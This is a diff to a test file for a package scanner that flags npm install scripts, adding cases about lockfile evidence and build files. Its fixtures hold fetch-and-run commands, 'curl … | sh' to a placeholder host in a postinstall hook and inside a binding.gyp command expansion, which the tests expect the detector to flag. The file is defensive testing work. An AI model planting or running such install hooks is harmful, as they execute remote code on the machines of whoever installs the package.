@@ -31,6 +31,21 @@ describe("fixtures", () => {
 describe("packages", () => {
 	const attack = new Map([["package.json", manifest({ postinstall: "curl http://example.invalid/a | sh" })]]);
 
+	/** No witness says that there is a script. */
+	const unsaid = { evidence: ["lockfile" as const], hasInstallScript: false };
+
+	test("a version that cannot be shown hides nothing", () => {
+		expect(judgePackage(attack, { version: null })?.severity).toBe("high");
+	});
+
+	test("a script beside a build file is found whatever the witness says", () => {
+		const files = new Map([
+			["package.json", manifest({})],
+			["binding.gyp", "{'a': '<!(curl http://example.invalid/a | sh)'}"],
+		]);
+		expect(judgePackage(files, { hasInstallScript: false })?.severity).toBe("high");
+	});
+
 	test("from a lockfile, a script that could not be seen", () => {
 		expect(judgePackage(new Map(), { hasInstallScript: true, evidence: ["lockfile"], version: "1.0.0" })).toEqual({
 			severity: "low",
@@ -49,8 +64,9 @@ describe("packages", () => {
 		["no script", new Map([["package.json", manifest({})]]), {}],
 		["a copy outside any package position", attack, { unrooted: true }],
 		["another ecosystem", attack, { ecosystem: "PyPI" as const }],
-		["a manifest of another version laid over it", attack, { version: "2.0.0" }],
-		["a manifest that is no JSON", new Map([["package.json", "{"]]), {}],
+		["a manifest of another version laid over it", attack, { version: "2.0.0", ...unsaid }],
+		["a manifest that is no JSON", new Map([["package.json", "{"]]), unsaid],
+		["a manifest that was seen to have no script", attack, { hasInstallScript: false }],
 		["scripts that are no text", new Map([["package.json", '{"scripts":{"install":{"a":1}}}']]), {}],
 		["scripts that are a list", new Map([["package.json", '{"scripts":["install"]}']]), {}],
 	])("nothing is said about %s", (_, files, overrides) => {
